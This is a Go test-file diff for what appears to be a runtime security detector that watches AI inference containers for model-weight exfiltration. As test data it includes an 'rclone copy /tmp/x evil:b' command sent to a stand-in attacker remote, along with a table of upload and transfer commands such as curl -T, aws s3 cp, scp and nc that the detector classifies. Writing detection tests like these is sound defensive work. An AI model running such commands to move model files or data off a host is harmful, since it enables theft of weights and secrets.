@@ -446,3 +446,93 @@ func TestA11Cryptojacking(t *testing.T) {
 		t.Errorf("GPU-002 conditions = %q", f.Attrs["conditions"])
 	}
 }
+
+func TestEXF001TransferToolByTaintedProcess(t *testing.T) {
+	e := newAIEngine(t, nil, nil)
+	c := ctr("simctr-infer-tool")
+	sh := proc(340, "/usr/bin/dash", "sh", "-c", "cp ...; exec rclone copy /tmp/x evil:b")
+	out := run(e,
+		at(0, execEv(sh, c)),
+		at(time.Millisecond, mopen(sh, c, llamaFile, "", rd, 8*mib, 11)),
+		at(2*time.Millisecond, mopen(sh, c, "/tmp/x", "", wr, -1, 12)),
+		at(3*time.Millisecond, execEv(proc(340, "/usr/bin/rclone", "rclone", "copy", "/tmp/x", "evil:b"), c)),
+	)
+	var tool *event.Finding
+	for _, f := range findingsOf(out, "EXF-001") {
+		if f.Attrs["condition"] == "transfer_tool" {
+			tool = f
+		}
+	}
+	if tool == nil || tool.Severity != event.SevHigh || tool.Attrs["tool"] != "rclone" {
+		t.Fatalf("no high EXF-001 transfer_tool finding for rclone:\n%s", firedList(out))
+	}
+	if f := rulesFired(out)["EXF-002"]; f == nil || f.Severity != event.SevCritical {
+		t.Errorf("EXF-002 by a tainted process should be critical: %v", f)
+	}
+}
+
+func TestModelUpdaterGlobs(t *testing.T) {
+	e := newAIEngine(t, nil, nil)
+	build := ctr("simctr-build-x")
+	cases := []struct {
+		p    pb
+		c    *event.Container
+		want bool
+	}{
+		{proc(1, "/usr/bin/curl", "curl", "-s", "-o", "/m/x.safetensors"), build, true},
+		{proc(2, "/usr/bin/wget", "wget", "-O", "/m/x.safetensors"), build, false},
+		{proc(3, "/usr/bin/curl", "curl"), ctr("simctr-infer-x"), false},
+		{proc(4, "/usr/bin/python3.11", "python3", "/tmp/ebpfh.Q1/mkmodel.py", "/tmp/h/models/a.safetensors", "8"), nil, true},
+		{proc(5, "/usr/bin/python3.11", "python3", "/tmp/other.py"), nil, false},
+	}
+	for i, tc := range cases {
+		if got := e.ai.IsModelUpdater(tc.p.p, tc.c); got != tc.want {
+			t.Errorf("case %d (%s): IsModelUpdater = %v; want %v", i, cmdline(tc.p.p), got, tc.want)
+		}
+	}
+	for _, g := range []struct {
+		pat, s string
+		want   bool
+	}{
+		{"curl", "curl", true}, {"cu?l", "curl", true}, {"*", "", true}, {"a*b*c", "a/x/b/y/c", true},
+		{"a*b", "a/x/c", false}, {"python3 */mkmodel.py *", "python3 /a/b/mkmodel.py x 8", true}, {"", "x", false},
+	} {
+		if got := globMatch(g.pat, g.s); got != g.want {
+			t.Errorf("globMatch(%q, %q) = %v; want %v", g.pat, g.s, got, g.want)
+		}
+	}
+}
+
+func TestTransferToolDirection(t *testing.T) {
+	for _, tc := range []struct {
+		args []string
+		want string
+	}{
+		{[]string{"curl", "-T", "/tmp/w.tgz", "http://x/"}, "curl upload"},
+		{[]string{"curl", "--data-binary", "@/m/x.safetensors", "http://x/"}, "curl upload"},
+		{[]string{"curl", "-Fw=@/m/x", "http://x/"}, "curl upload"},
+		{[]string{"curl", "-o", "/m/x", "http://x/"}, ""},
+		{[]string{"wget", "--method=PUT", "--body-file=/m/x", "http://x/"}, "wget upload"},
+		{[]string{"wget", "http://x/m"}, ""},
+		{[]string{"aws", "s3", "cp", "/models/x", "s3://b/x"}, "aws s3 cp"},
+		{[]string{"aws", "s3", "sync", "s3://b/x", "/models"}, ""},
+		{[]string{"gsutil", "-m", "cp", "-r", "/models", "gs://b/"}, "gsutil cp"},
+		{[]string{"gcloud", "storage", "cp", "gs://b/x", "/models/"}, ""},
+		{[]string{"huggingface-cli", "upload", "me/m", "/models"}, "huggingface-cli upload"},
+		{[]string{"huggingface-cli", "download", "me/m"}, ""},
+		{[]string{"git", "push", "origin"}, "git push"},
+		{[]string{"git", "lfs", "push", "origin"}, "git push"},
+		{[]string{"git", "pull"}, ""},
+		{[]string{"rclone", "copy", "remote:b", "/models"}, ""},
+		{[]string{"rclone", "copy", "/models", "remote:b"}, "rclone"},
+		{[]string{"scp", "/models/x", "u@h:/x"}, "scp"},
+		{[]string{"python3", "-m", "http.server", "8000"}, "python http.server"},
+		{[]string{"python3", "-m", "pip", "install", "x"}, ""},
+		{[]string{"nc", "10.0.0.1", "9"}, "nc"},
+	} {
+		p := &event.Process{Exe: "/usr/bin/" + tc.args[0], Args: tc.args}
+		if got := transferTool(p); got != tc.want {
+			t.Errorf("transferTool(%v) = %q; want %q", tc.args, got, tc.want)
+		}
+	}
+}
